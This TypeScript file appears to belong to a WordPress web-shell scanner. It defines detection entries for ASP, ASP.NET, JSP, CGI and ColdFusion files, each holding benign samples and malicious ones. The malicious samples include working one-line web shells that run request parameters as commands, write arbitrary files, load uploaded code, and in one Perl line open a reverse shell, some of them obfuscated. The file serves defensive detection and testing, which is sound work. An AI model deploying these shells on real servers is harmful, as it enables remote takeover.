import type { Technique } from './technique.ts'

/** Other languages than PHP: files that a site of WordPress does not need, and that do not run in ours. */
export const FOREIGN: readonly Technique[] = [
  {
    name: 'ASP',
    severity: 'confirmed',
    extension: 'asp',
    samples: [
      '<%execute(request("x"))%>',
      '<% a = request("a") %><% eval a %>',
      '<% Set s = Server.CreateObject("WSCRIPT.SHELL")\nc = request.form("c")\nResponse.Write s.Exec("cmd.exe /c " & c).StdOut.ReadAll %>',
      '<% Set f = Server.CreateObject("Scripting.FileSystemObject")\nSet t = f.CreateTextFile(request("p"), True)\nt.Write request("d") %>',
      '<%@ LANGUAGE = VBScript.Encode %>\n<%#@~^gwEAAA==@#@&Dn/aWUdR==^#~@%>',
    ],
    honest: [
      '<% Response.Write Server.HTMLEncode(Request("name")) %>',
      '<% If Request.QueryString("page") <> "" Then page = CInt(Request.QueryString("page")) %>',
    ],
  },
  {
    name: 'ASP.NET',
    severity: 'confirmed',
    extension: 'aspx',
    samples: [
      '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
      '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>',
      '<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request["f"], Request["c"]); %>',
      '<%@ Page Language="C#" %><% byte[] c = Request.BinaryRead(Request.ContentLength); Assembly.Load(c).CreateInstance("U"); %>',
    ],
    honest: [
      '<%@ Page Language="C#" %><p><%= Server.HtmlEncode(Request.QueryString["q"]) %></p>',
      '<%@ Page Language="C#" %><% Response.Redirect("/"); %>',
    ],
  },
  {
    name: 'JSP',
    severity: 'confirmed',
    extension: 'jsp',
    samples: [
      '<% Runtime r = Runtime.getRuntime(); Process p = r.exec(request.getParameter("c")); %>',
      '<% new java.io.FileOutputStream(request.getParameter("f")).write(request.getParameter("t").getBytes()); %>',
      '<%! class U extends ClassLoader { Class g(byte[] b) { return defineClass(b, 0, b.length); } } %><% new U().g(read(request.getReader())); %>',
      '<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.eval(request.getParameter("c")); %>',
      '<% \\u0052\\u0075\\u006e\\u0074\\u0069\\u006d\\u0065.getRuntime().exec(x); %>',
    ],
    honest: [
      '<% String name = request.getParameter("name"); out.print(escape(name)); %>',
      '<%@ page import="java.util.*" %>',
    ],
  },
  {
    name: 'scripts of the server',
    severity: 'confirmed',
    extension: 'cgi',
    samples: [
      '#!/usr/bin/perl\nuse CGI; my $q = new CGI; my $c = $q->param("c"); print `$c 2>&1`;',
      '#!/usr/bin/perl\n$q = $ENV{QUERY_STRING}; open(H, "$q|"); while (<H>) { print; }',
      '#!/usr/bin/perl\nuse Socket; connect(S, $p); open(STDIN, ">&S"); open(STDOUT, ">&S"); system("/bin/sh");',
      '#!/bin/sh\necho\neval $QUERY_STRING\n',
      '#!/usr/bin/python\nimport cgi, os\nform = cgi.FieldStorage()\nos.system(form["c"].value)\n',
      "#!/usr/bin/ruby\nrequire 'cgi'\nputs `#{CGI.new['c']}`\n",
    ],
    honest: [
      '#!/usr/bin/perl\nuse CGI; my $q = new CGI; print $q->header, $q->escapeHTML($q->param("name"));',
      '#!/bin/sh\nset -e\nnpm run build\ntar -czf "$1" dist\n',
      '#!/usr/bin/env python\nimport subprocess\nsubprocess.check_output(["git", "describe"])\n',
    ],
  },
  {
    name: 'ColdFusion',
    severity: 'confirmed',
    extension: 'cfm',
    samples: [
      '<cfexecute name="#Form.cmd#" arguments="#Form.opts#" timeout="5"></cfexecute>',
      '<cffile action="upload" filefield="f" destination="#form.path#">',
    ],
    honest: ['<cfoutput>#encodeForHtml(url.name)#</cfoutput>', '<cfquery name="q">select 1</cfquery>'],
  },
]
